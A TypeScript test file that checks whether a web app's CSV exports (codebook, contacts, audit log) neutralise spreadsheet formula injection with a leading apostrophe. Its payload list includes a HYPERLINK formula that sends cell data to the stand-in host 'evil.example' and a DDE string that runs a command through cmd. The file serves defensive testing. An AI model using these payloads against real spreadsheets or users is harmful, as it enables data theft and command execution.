import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSubmission, newKey } from '../support/builders.ts';
import { signInAs, type StaffSession } from '../support/staffSession.ts';
import { createTestApp, type TestApp } from '../support/testApp.ts';

// Formula injection in the CSV files that exist today (codebook, audit log, contact details): a value a spreadsheet
// would run as a formula must arrive with a leading apostrophe. (The story exports of issue 6 are not built yet.)

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klicka")', '+SUM(1,1)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1'] as const;
/** A cell a spreadsheet would evaluate: starts with = + - @, or a tab or CR before one. */
const DANGEROUS = /^[=+\-@\t\r]/;

let t: TestApp;
let admin: StaffSession;

beforeAll(async () => {
  t = await createTestApp();
  admin = await signInAs(t, ['admin', 'facilitator', 'staff'], FORMULAS[0]);
  await signInAs(t, ['staff'], FORMULAS[3]);
  for (const [index, formula] of FORMULAS.entries()) {
    const theme = await request(t.app)
      .post('/api/v1/themes')
      .set(admin.headers)
      .send({ labels: { sv: `${formula} sv${index}`, en: `${formula} en${index}` }, descriptions: { sv: formula }, keywords: { sv: [`${formula.trim()}x${index}`] } });
    expect(theme.status, theme.text).toBe(201);
  }
  const submitted = await request(t.app)
    .post('/api/v1/submissions')
    .set('Idempotency-Key', newKey())
    .send(
      buildSubmission({
        followUp: { name: FORMULAS[0], email: 'formel@exempel.se', accessNeeds: FORMULAS[2], preferredLanguage: 'sv' },
        consent: { storyProcessing: true, contactProcessing: true, version: '2026-11' },
      }),
    );
  expect(submitted.status).toBe(201);
  // An audit export filtered by a formula-looking id, so the next export carries it in its details.
  expect((await request(t.app).get('/api/v1/audit.csv').query({ targetId: '=1+1' }).set(admin.headers)).status).toBe(200);
});

afterAll(async () => {
  await t?.close();
});

async function cells(path: string): Promise<string[]> {
  const res = await request(t.app).get(path).set(admin.headers);
  expect(res.status, path).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  const rows: string[][] = parse(res.text.replace(/^\ufeff/, ''), { relax_column_count: true });
  return rows.flat();
}

describe('CSV formula injection', () => {
  // The audit log's cells are ids, action names and JSON details that users cannot start with a formula character; it
  // is checked for none, the other two also for carrying the payloads (so the check would see them).
  it.each([
    { path: '/api/v1/codebook.csv', carries: true },
    { path: '/api/v1/contacts.csv', carries: true },
    { path: '/api/v1/audit.csv', carries: false },
  ])('$path has no cell a spreadsheet would run', async ({ path, carries }) => {
    const all = await cells(path);
    expect(all.filter((cell) => DANGEROUS.test(cell))).toEqual([]);
    if (carries) {
      const neutralised = all.filter((cell) => cell.startsWith("'") && DANGEROUS.test(cell.slice(1)));
      expect(neutralised.length, `${path} carries the payloads`).toBeGreaterThanOrEqual(2);
    }
  });
});
